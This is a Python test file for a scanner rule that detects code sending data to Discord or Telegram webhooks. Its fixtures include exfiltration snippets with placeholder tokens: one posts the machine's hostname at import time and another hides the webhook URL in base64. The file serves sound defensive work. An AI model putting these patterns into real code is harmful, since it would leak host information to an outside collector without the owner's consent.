"""Tokens of chat collectors."""

from lazaretto.detect.rules.python.chat_webhook import RULE


def test_with_something_collected(scan):
    text = r"""import requests, socket
HOOK = "https://discord.com/api/webhooks/100000000000000000/AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"
requests.post(HOOK, json={"content": socket.gethostname()})
"""
    assert scan(RULE, text) == [(2, "HIGH", "HIGH", "import")]


def test_alone(scan):
    text = r"""import requests
def say(text):
    requests.post("https://api.telegram.org/bot123456789:AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA/sendMessage", data=text)
"""
    assert scan(RULE, text) == [(3, "HIGH", "MEDIUM", "run")]


def test_encoded(scan):
    text = r"""import base64, requests
hook = base64.b64decode("aHR0cHM6Ly9kaXNjb3JkLmNvbS9hcGkvd2ViaG9va3MvMTAwMDAwMDAwMDAwMDAwMDAwL0FBQUFBQUFBQUFBQUFBQUFBQUFBQUFBQQ==").decode()
requests.post(hook)
"""
    assert scan(RULE, text) == [(2, "HIGH", "HIGH", "import")]


def test_in_a_test(scan):
    text = r"""HOOK = "https://discord.com/api/webhooks/100000000000000000/AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"
"""
    assert scan(RULE, text, "tests/test_hook.py") == [(1, "LOW", "MEDIUM", "run")]


def test_near_miss_no_token(scan):
    text = r"""import requests
BASE = "https://discord.com/api/webhooks/"
def send(ident, token): requests.post(f"{BASE}{ident}/{token}")
"""
    assert scan(RULE, text) == []
